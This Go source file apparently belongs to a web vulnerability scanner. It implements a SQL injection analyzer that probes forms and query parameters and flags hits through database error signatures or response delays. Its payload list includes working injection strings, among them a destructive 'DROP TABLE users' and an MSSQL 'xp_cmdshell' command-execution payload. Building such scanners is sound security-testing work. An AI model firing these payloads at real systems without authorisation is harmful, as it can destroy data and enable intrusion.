package analyzer

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"time"

	"github.com/MikhailDrugie/se-attack-modeling/internal/logger"
	"github.com/MikhailDrugie/se-attack-modeling/pkg/scanner"
)

// sqliPayloads covers error-based, boolean-based, UNION-based, stacked
// and time-based injection across MySQL, PostgreSQL and MSSQL.
var sqliPayloads = []string{
	"'",
	"\"",
	"' OR '1'='1",
	"' OR '1'='1' --",
	"' OR '1'='1' /*",
	"') OR ('1'='1",

	"1' AND '1'='1",
	"1' AND '1'='2",
	"admin' --",
	"admin' #",
	"' OR 1=1 --",

	"' UNION SELECT NULL--",
	"' UNION SELECT NULL,NULL--",
	"' UNION SELECT NULL,NULL,NULL--",
	"' UNION ALL SELECT NULL--",

	"'; DROP TABLE users--",
	"'; WAITFOR DELAY '00:00:05'--",

	"' AND SLEEP(5)--",
	"' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",

	"' OR 1=1 LIMIT 1--",
	"' OR '1'='1' LIMIT 1--",
	"' OR 'x'='x",

	"' OR '1'='1'--",
	"'; SELECT pg_sleep(5)--",

	"'; EXEC xp_cmdshell('dir')--",

	"' OR/**/'1'='1",
	"' OR/*comment*/'1'='1'--",
	"%27 OR %271%27=%271",
}

// sqlErrorPatterns match database error messages leaking into the
// response body.
var sqlErrorPatterns = []*regexp.Regexp{
	regexp.MustCompile(`(?is)sql syntax.*?error`),
	regexp.MustCompile(`(?is)mysql.*?error`),
	regexp.MustCompile(`(?is)warning.*?mysql`),
	regexp.MustCompile(`(?i)valid mysql result`),
	regexp.MustCompile(`(?is)mysqli.*?error`),
	regexp.MustCompile(`(?is)pg_query\(\).*?error`),
	regexp.MustCompile(`(?is)postgresql.*?error`),
	regexp.MustCompile(`(?is)odbc.*?error`),
	regexp.MustCompile(`(?is)microsoft sql.*?error`),
	regexp.MustCompile(`(?i)unclosed quotation mark`),
	regexp.MustCompile(`(?is)syntax error.*?at or near`),
	regexp.MustCompile(`(?i)you have an error in your sql syntax`),
	regexp.MustCompile(`(?i)warning: mysql`),
	regexp.MustCompile(`(?i)mysqlclient\.`),
	regexp.MustCompile(`(?i)oracle error`),
	regexp.MustCompile(`(?i)oci_execute`),
	regexp.MustCompile(`(?is)sqlite.*?error`),
	regexp.MustCompile(`(?i)sqlite3::`),
	regexp.MustCompile(`(?i)sqlstate`),
	regexp.MustCompile(`(?i)quoted string not properly terminated`),
}

// sqliTimeThreshold is the minimum response delay that confirms a
// time-based payload fired. The injected statements sleep for five
// seconds.
const sqliTimeThreshold = 5 * time.Second

// SQLi probes form fields and query parameters for SQL injection via
// error signatures and time-based delays.
type SQLi struct {
	Delay time.Duration

	timeThreshold time.Duration
	log           *logger.Logger
}

// NewSQLi creates a SQL injection analyzer.
func NewSQLi(log *logger.Logger) *SQLi {
	if log == nil {
		log = logger.Global()
	}
	return &SQLi{
		Delay:         defaultProbeDelay,
		timeThreshold: sqliTimeThreshold,
		log:           log.WithAnalyzer("sqli"),
	}
}

// Name implements Analyzer.
func (a *SQLi) Name() string { return "sqli" }

// Analyze probes every endpoint's forms and query parameters.
func (a *SQLi) Analyze(ctx context.Context, session Session, site *scanner.SiteMap) (*Result, error) {
	start := time.Now()
	result := &Result{Analyzer: a.Name()}

	p := &prober{
		payloads: sqliPayloads,
		check:    a.checkInjection,
		build:    a.buildFinding,
		delay:    a.Delay,
		log:      a.log,
	}
	err := p.run(ctx, session, site, result)

	result.Duration = time.Since(start)
	a.log.Infof("analysis complete: %d vulnerabilities found", len(result.Vulnerabilities))
	return result, err
}

// checkInjection confirms injection via leaked database errors, or
// for sleep/waitfor payloads, via the response delay.
func (a *SQLi) checkInjection(payload string, resp *ProbeResponse) (string, bool) {
	body := strings.ToLower(resp.Body)

	for _, re := range sqlErrorPatterns {
		loc := re.FindStringIndex(body)
		if loc == nil {
			continue
		}
		start := loc[0] - 50
		if start < 0 {
			start = 0
		}
		end := loc[1] + 100
		if end > len(body) {
			end = len(body)
		}
		return body[start:end], true
	}

	if isTimeBased(payload) && resp.ResponseTime > a.timeThreshold {
		return fmt.Sprintf("Response time: %.2fs (expected >%.0fs)",
			resp.ResponseTime.Seconds(), a.timeThreshold.Seconds()), true
	}

	return "", false
}

func (a *SQLi) buildFinding(h hit) Vulnerability {
	subtype := "Error-based"
	switch {
	case isTimeBased(h.Payload):
		subtype = "Time-based Blind"
	case strings.Contains(strings.ToLower(h.Payload), "union"):
		subtype = "UNION-based"
	}

	evidence := h.Evidence
	if evidence == "" {
		evidence = "SQL error detected"
	}

	return Vulnerability{
		Name: fmt.Sprintf("SQL Injection (%s) in '%s' parameter", subtype, h.Param),
		Description: fmt.Sprintf(
			"SQL Injection detected in %s parameter '%s'. The application "+
				"does not sanitize user input before using it in SQL queries, "+
				"allowing injection of arbitrary SQL commands. "+
				"Detection method: %s. Payload: %s",
			h.Method, h.Param, subtype, h.Payload),
		Type:      TypeSQLi,
		Severity:  SeverityCritical,
		URL:       h.URL,
		Parameter: h.Param,
		Method:    h.Method,
		Payload:   h.Payload,
		Evidence:  truncate(evidence, 200),
		CWE:       "CWE-89",
	}
}

func isTimeBased(payload string) bool {
	lower := strings.ToLower(payload)
	return strings.Contains(lower, "sleep") || strings.Contains(lower, "waitfor")
}
